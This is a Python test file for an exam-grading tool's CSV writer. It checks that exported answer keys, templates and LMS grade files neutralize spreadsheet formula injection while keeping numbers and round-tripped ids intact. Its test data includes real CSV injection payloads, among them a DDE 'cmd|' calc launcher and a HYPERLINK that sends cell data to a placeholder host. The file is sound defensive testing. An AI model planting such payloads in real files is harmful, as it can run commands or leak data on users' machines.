"""No live formula in any CSV nnexam writes, read by a spreadsheet splitting on commas or on
semicolons, hostile ids, names, titles and edited manifest labels included; numbers stay numbers;
files people open start with a BOM, files an LMS imports do not, and the grader reads both."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from nnexam.cli import cli
from nnexam.csvout import cell, neutral, unneutral
from nnexam.generate import answer_key, submission_template
from nnexam.manifest import load_manifest

# What a spreadsheet (Excel, LibreOffice, Google Sheets) runs as a formula when a cell starts with
# it (OWASP, "CSV Injection"), with the full-width forms Excel for East-Asian locales also reads.
FORMULA = set("=+-@\t\r\n\x00") | set("＝＋－＠")
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|x",
           "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "＝1+1", "＋1", "－1+1", "＠x", " =1+1", "0.1;=1+1;",
           "a,=1+1", "a\t=1+1", 'a;"=1+1', "a\n\"@x"]


def live_cells(text: str) -> list[tuple[str, str]]:
    """(separator, cell) of every cell a spreadsheet splitting on ',' or ';' would run as a formula.

    A comma file split on ';' gives whole lines as cells: one starting with a plain number and then
    a comma (a score row whose id is -17) is a number in that locale, not a formula.
    """
    text = text.removeprefix("\ufeff")
    live = []
    for sep in ",;":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep):
            for c in row:
                s = c.lstrip(" \u00a0\u3000")
                head = re.split("[,;]", s, maxsplit=1)[0]
                if s[:1] in FORMULA and not PLAIN_NUMBER.fullmatch(head):
                    live.append((sep, c))
    return live


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_is_never_live_under_either_separator(text):
    assert live_cells(cell(text) + "," + cell("x") + "\r\n") == []
    (read,) = next(csv.reader(io.StringIO(cell(text), newline="")))
    assert unneutral(read) == text  # the grader reads back the id it wrote


@pytest.mark.parametrize("number", ["-0.5", "-17", "+4917", "1e-05", "-1.5E+3", "0.25"])
def test_numbers_stay_numbers(number):
    assert cell(number) == number


def test_a_cell_holding_either_separator_is_quoted():
    # today: 0.1;=1+1; unquoted, a live =1+1 split on ';'. Quoted, and the piece after ';' made
    # neutral: a spreadsheet splitting a comma file on ';' ignores the quotes of a cell mid-line.
    assert cell("0.1;=1+1;") == '"0.1;\'=1+1;"'
    assert cell("a;-0.5") == '"a;-0.5"'
    assert cell('a;"=1+1') == '"a;\'""=1+1"'  # a reader may take the quote after ';' for a quoted cell's
    assert cell("a,b") == '"a,b"' and cell('say "hi"') == '"say ""hi"""'
    assert cell("＝1+1") == "'＝1+1" and cell("\x00x").startswith("\"'")


@pytest.fixture(scope="module")
def hostile_exam(tmp_path_factory) -> Path:
    """An exam generated from a roster of hostile ids and names, graded from its own template with
    one answer filled, after its manifest's labels and title were edited to formulas."""
    from click.testing import CliRunner

    runner = CliRunner()
    root = tmp_path_factory.mktemp("hostile")
    ids = ["=HYPERLINK(\"http://x\")", "@x", "+cmd|x", "-17", "-0.5", "＝1+1", "0.1;=1+1;", "plain"]
    names = ["=1+1", "Zoë Ñúñez", "\t=2", "@SUM(A1)", "－3", "a;=1+1", "b,=1+1", '"=q"']
    roster = root / "roster.csv"
    buf = io.StringIO()
    csv.writer(buf).writerows([("ID", "Name"), *zip(ids, names)])  # raw, as an LMS exports them
    roster.write_text(buf.getvalue(), encoding="utf-8")
    exam = root / "exam"
    r = runner.invoke(cli, ["generate", "--seed", "h", "--roster", str(roster), "--no-pdf", "--out", str(exam)])
    assert r.exit_code == 0, r.output
    assert [s.id for s in load_manifest(exam).students] == ids
    doc = json.loads((exam / "manifest.json").read_text(encoding="utf-8"))
    doc["questions"][0]["label"] = "=SUM(A1:A9)"
    doc["questions"][1]["label"] = "x;=1+1"
    doc["title"] = "@cmd;=1+1"
    (exam / "manifest.json").write_text(json.dumps(doc), encoding="utf-8")
    template = (exam / "submission_template.csv").read_text(encoding="utf-8-sig").splitlines()
    header = template[0].split(",")
    header[2:4] = ['"=SUM(A1:A9)"', '"x;=1+1"']
    filled = [",".join(header)] + [line.replace(",,", ",0.5,", 1) for line in template[1:]]
    subs = root / "subs.csv"
    subs.write_text("\n".join(filled) + "\n", encoding="utf-8-sig")  # with a BOM, as Excel saves "CSV UTF-8"
    r = runner.invoke(cli, ["grade", str(exam), str(subs), "--no-report"])
    assert r.exit_code == 0, r.output  # every id read back from the neutralized template: all graded
    export = root / "export.csv"
    buf = io.StringIO()
    csv.writer(buf).writerows([("Student", "SIS User ID"), *(("x", i) for i in ids)])  # raw, as the LMS writes it
    export.write_text(buf.getvalue(), encoding="utf-8")
    r = runner.invoke(cli, ["grade", str(exam), str(subs), "--no-report", "--out", str(root / "lms"),
                            "--lms-export", str(export), "--title", "=1+1;@x"])
    assert r.exit_code == 0, r.output
    return exam


@pytest.mark.parametrize("name", ["answer_key.csv", "submission_template.csv", "grades/grades.csv",
                                  "grades/canvas.csv", "grades/moodle.csv"])
def test_no_file_nnexam_writes_holds_a_live_formula(hostile_exam, name):
    text = (hostile_exam / name).read_text(encoding="utf-8")
    assert live_cells(text) == []
    assert "\n-0.5," in text or ",-0.5," in text  # a negative-number id: unquoted, unprefixed


def test_the_lms_export_copy_gets_a_neutral_title_cell(hostile_exam):
    # Every other cell is the LMS's own, kept byte for byte; the cells nnexam adds are the title
    # (from --title "=1+1;@x", raw today) and the scores.
    lines = (hostile_exam.parent / "lms" / "export.csv").read_text(encoding="utf-8").splitlines()
    added = [line.rsplit(",", 1)[1] if i else line.removeprefix("Student,SIS User ID,") for i, line in enumerate(lines)]
    assert live_cells(added[0]) == [] and added[0] == "\"'=1+1;'@x\""
    assert all(PLAIN_NUMBER.fullmatch(a) for a in added[1:])


def test_the_edited_manifest_writes_no_live_formula_either(hostile_exam):
    m = load_manifest(hostile_exam)
    assert m.questions[0].label == "=SUM(A1:A9)"
    for text in (answer_key(m), submission_template(m)):
        assert live_cells(text) == []
        assert "\n-0.5," in text and "\n-17," in text  # negative-number ids unquoted and unprefixed


def test_files_people_open_start_with_a_bom_and_lms_files_do_not(hostile_exam):
    for name in ("answer_key.csv", "submission_template.csv", "grades/grades.csv"):
        raw = (hostile_exam / name).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), name  # Excel reads UTF-8 only with it: Zoë, not ZoÃ«
    assert "Zoë Ñúñez" in (hostile_exam / "grades" / "grades.csv").read_text(encoding="utf-8-sig")
    for name in ("grades/canvas.csv", "grades/moodle.csv"):
        raw = (hostile_exam / name).read_bytes()
        assert not raw.startswith(b"\xef\xbb\xbf"), name
    # Canvas's gradebook import: its header first, byte for byte as the LMS expects it.
    assert (hostile_exam / "grades" / "canvas.csv").read_bytes().startswith(b"Student,ID,")


@pytest.mark.parametrize("text", ["'=x", "''=y", "'\"=x", "a;'=x", "'@SUM(1)", "'-1", "'plain"])
def test_an_id_with_its_own_apostrophe_reads_back_as_written(text):
    # today: the id '=x was written as '=x and read back as =x: "unknown student", its owner "without a submission"
    (read,) = next(csv.reader(io.StringIO(cell(text), newline="")))
    assert unneutral(read) == text
    assert live_cells(cell(text) + "\r\n") == []


def test_every_text_of_quotes_apostrophes_and_formula_starts_reads_back_as_written():
    from hypothesis import given, settings, strategies as st

    @settings(max_examples=600, deadline=None)
    @given(st.text(alphabet="'\"=+-@;, \t\n1x", min_size=1, max_size=8))
    def check(text):
        (read,) = next(csv.reader(io.StringIO(cell(text), newline="")))
        assert unneutral(read) == text

    check()


def test_a_student_whose_id_starts_with_an_apostrophe_is_graded(tmp_path):
    from click.testing import CliRunner

    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,name\n'=x,Ann\nok,Bo\n", encoding="utf-8")
    runner = CliRunner()
    assert runner.invoke(cli, ["generate", "--seed", "a", "--roster", str(roster), "--no-pdf", "--out", str(tmp_path / "e")]).exit_code == 0
    r = runner.invoke(cli, ["grade", str(tmp_path / "e"), str(tmp_path / "e" / "answer_key.csv"), "--no-report"])
    assert r.exit_code == 0 and "graded 2 of 2 rows" in r.stdout, r.output


def test_brightspace_csv_from_a_hostile_brightspace_roster_holds_no_live_formula(tmp_path):
    # the layout of D2L's "Export grades" (Key Field Both), as lms/brightspace.py reads it
    from click.testing import CliRunner

    roster = tmp_path / "bs.csv"
    roster.write_text("OrgDefinedId,Username,Last Name,First Name,Email,Exam Points Grade <Numeric MaxPoints:24>,"
                      "End-of-Line Indicator\r\n=1+1,#@evil,=cmd|x,+y,a@b,,#\r\n-17,#-u,\"Lee, A\",\"=2;=3\",c@d,,#\r\n"
                      "\"x;=4\",#\"=q\",Z,Q,e@f,,#\r\n", encoding="utf-8")
    runner = CliRunner()
    exam = tmp_path / "e"
    assert runner.invoke(cli, ["generate", "--seed", "b", "--roster", str(roster), "--no-pdf", "--out", str(exam)]).exit_code == 0
    r = runner.invoke(cli, ["grade", str(exam), str(exam / "answer_key.csv"), "--no-report", "--title", "=T;@x"])
    assert r.exit_code == 0 and "graded 3 of 3 rows" in r.stdout, r.output
    text = (exam / "grades" / "brightspace.csv").read_text(encoding="utf-8")
    assert live_cells(text) == [] and "\n-17,#-u,24,#" in text


def test_titles_and_labels_in_every_header_are_marked_once_and_read_back(tmp_path):
    # each header cell through csvout.cell once: the callers' own neutralize() before it marked '=T twice
    from click.testing import CliRunner

    from nnexam.table import read_table

    runner = CliRunner()
    exam = tmp_path / "e"
    assert runner.invoke(cli, ["generate", "--seed", "t", "--students", "2", "--no-pdf", "--out", str(exam)]).exit_code == 0
    doc = json.loads((exam / "manifest.json").read_text(encoding="utf-8"))
    old_label, doc["questions"][0]["label"] = doc["questions"][0]["label"], "'=L"
    (exam / "manifest.json").write_text(json.dumps(doc), encoding="utf-8")
    template = (exam / "submission_template.csv").read_text(encoding="utf-8-sig").replace(",,", ",0.5,", 1)
    (tmp_path / "subs.csv").write_text(template.replace(f",{old_label},", f",{cell(chr(39) + '=L')},", 1), encoding="utf-8")
    r = runner.invoke(cli, ["grade", str(exam), str(tmp_path / "subs.csv"), "--no-report", "--title", "'=T"])
    assert r.exit_code in (0, 1) and (exam / "grades").is_dir(), r.output
    header = lambda name: [unneutral(c) for c in read_table((exam / "grades" / name).read_bytes(), name).header]  # noqa: E731
    assert "'=T" in header("canvas.csv") and "'=T (Real)" in header("moodle.csv")
    assert "'=L" in header("grades.csv")
